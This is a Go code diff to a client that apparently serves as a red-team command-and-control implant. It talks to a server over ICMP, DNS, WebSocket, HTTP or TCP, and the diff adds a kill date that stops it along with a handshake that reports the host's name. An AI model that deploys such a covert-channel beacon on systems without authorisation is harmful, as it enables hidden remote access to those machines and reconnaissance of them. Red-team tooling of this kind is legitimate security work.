@@ -51,6 +51,12 @@ func main() {
 	flag.StringVar(&protocolList, "protocol", strings.Join(BuildConfig.Protocols, ","), "Comma-separated list of protocols to use")
 	flag.Parse()
 
+	// Never run past the kill date
+	killDate := parseKillDate(BuildConfig.KillDate)
+	if !killDate.IsZero() && !time.Now().Before(killDate) {
+		os.Exit(0)
+	}
+
 	if serverAddr == "" {
 		fmt.Println("Error: Server address is required")
 		flag.Usage()
@@ -130,8 +136,12 @@ func main() {
 		go monitorConnection(protocols)
 	}
 
-	// Wait for termination signal
-	<-sigChan
+	// Wait for termination signal or the kill date
+	select {
+	case <-sigChan:
+	case <-waitForKillDate(killDate):
+		fmt.Println("\nKill date reached.")
+	}
 	fmt.Println("\nShutting down client...")
 	
 	// Perform clean shutdown
@@ -140,6 +150,44 @@ func main() {
 	fmt.Println("Client shutdown complete.")
 }
 
+// parseKillDate parses the embedded kill date, returning the zero time if there is none
+func parseKillDate(value string) time.Time {
+	if value == "" {
+		return time.Time{}
+	}
+	killDate, err := time.Parse(time.RFC3339, value)
+	if err != nil {
+		// A kill date that cannot be read must not let the client run indefinitely
+		os.Exit(0)
+	}
+	return killDate
+}
+
+// waitForKillDate returns a channel that is closed once the kill date passes
+func waitForKillDate(killDate time.Time) <-chan struct{} {
+	done := make(chan struct{})
+	if killDate.IsZero() {
+		return done
+	}
+
+	go func() {
+		ticker := time.NewTicker(time.Minute)
+		defer ticker.Stop()
+		for time.Now().Before(killDate) {
+			wait := time.Until(killDate)
+			if wait > time.Minute {
+				// Check again every minute in case the system clock jumps forward
+				<-ticker.C
+			} else {
+				time.Sleep(wait)
+			}
+		}
+		close(done)
+	}()
+
+	return done
+}
+
 // SendPacket sends a packet to the server
 func SendPacket(packet *protocol.Packet) error {
 	if !isConnected || tcpConn == nil {
@@ -193,8 +241,8 @@ func connectICMP(address string) error {
 		return fmt.Errorf("failed to listen for ICMP packets: %w", err)
 	}
 	
-	// Create a key exchange packet with the session ID as data
-	keyExchangePacket := protocol.NewPacket(protocol.PacketTypeKeyExchange, []byte(string(sessionID)))
+	// Create a key exchange packet with the session ID and hostname as data
+	keyExchangePacket := protocol.NewPacket(protocol.PacketTypeKeyExchange, handshakeData())
 	
 	// Prepare the packet for sending
 	fragments, err := protocolHandler.PrepareOutgoingPacket(keyExchangePacket, sessionID, false)
@@ -266,8 +314,8 @@ func connectDNS(address string) error {
 		return fmt.Errorf("failed to resolve domain: %w", err)
 	}
 	
-	// Create a key exchange packet with the session ID as data
-	keyExchangePacket := protocol.NewPacket(protocol.PacketTypeKeyExchange, []byte(string(sessionID)))
+	// Create a key exchange packet with the session ID and hostname as data
+	keyExchangePacket := protocol.NewPacket(protocol.PacketTypeKeyExchange, handshakeData())
 	
 	// Prepare the packet for sending
 	fragments, err := protocolHandler.PrepareOutgoingPacket(keyExchangePacket, sessionID, false)
@@ -334,8 +382,8 @@ func connectWebSocket(address string) error {
 		return fmt.Errorf("failed to connect to server: %w", err)
 	}
 	
-	// Create a key exchange packet with the session ID as data
-	keyExchangePacket := protocol.NewPacket(protocol.PacketTypeKeyExchange, []byte(string(sessionID)))
+	// Create a key exchange packet with the session ID and hostname as data
+	keyExchangePacket := protocol.NewPacket(protocol.PacketTypeKeyExchange, handshakeData())
 	
 	// Prepare the packet for sending
 	fragments, err := protocolHandler.PrepareOutgoingPacket(keyExchangePacket, sessionID, false)
@@ -438,8 +486,8 @@ func connectHTTP(address string) error {
 	}
 	defer resp.Body.Close()
 	
-	// Create a key exchange packet with the session ID as data
-	keyExchangePacket := protocol.NewPacket(protocol.PacketTypeKeyExchange, []byte(string(sessionID)))
+	// Create a key exchange packet with the session ID and hostname as data
+	keyExchangePacket := protocol.NewPacket(protocol.PacketTypeKeyExchange, handshakeData())
 	
 	// Prepare the packet for sending
 	fragments, err := protocolHandler.PrepareOutgoingPacket(keyExchangePacket, sessionID, false)
@@ -531,8 +579,8 @@ func connect(protocol, address string) error {
 	// Store the connection for later use
 	tcpConn = conn
 	
-	// Create a key exchange packet with the session ID as data
-	keyExchangePacket := createPacket(6, []byte(string(sessionID))) // 6 = PacketTypeKeyExchange
+	// Create a key exchange packet with the session ID and hostname as data
+	keyExchangePacket := createPacket(6, handshakeData()) // 6 = PacketTypeKeyExchange
 	
 	// Send the packet
 	err = SendPacket(keyExchangePacket)
@@ -709,6 +757,25 @@ func monitorConnection(protocols []string) {
 	}
 }
 
+// handshakeData encodes the session ID and the hostname the client runs on as
+// the handshake the server reads from a key exchange packet: a marker followed
+// by TLVs
+func handshakeData() []byte {
+	buf := new(bytes.Buffer)
+	buf.WriteString("DHS1")
+	writeTLV := func(tlvType byte, value string) {
+		buf.WriteByte(tlvType)
+		binary.Write(buf, binary.BigEndian, uint16(len(value)))
+		buf.WriteString(value)
+	}
+	
+	writeTLV(1, string(sessionID)) // Session ID
+	if hostname, err := os.Hostname(); err == nil && hostname != "" {
+		writeTLV(2, hostname) // Hostname
+	}
+	return buf.Bytes()
+}
+
 // createPacket creates a new packet with the specified type and data
 func createPacket(packetType uint8, data []byte) *protocol.Packet {
 	// Create a new packet with the specified type and data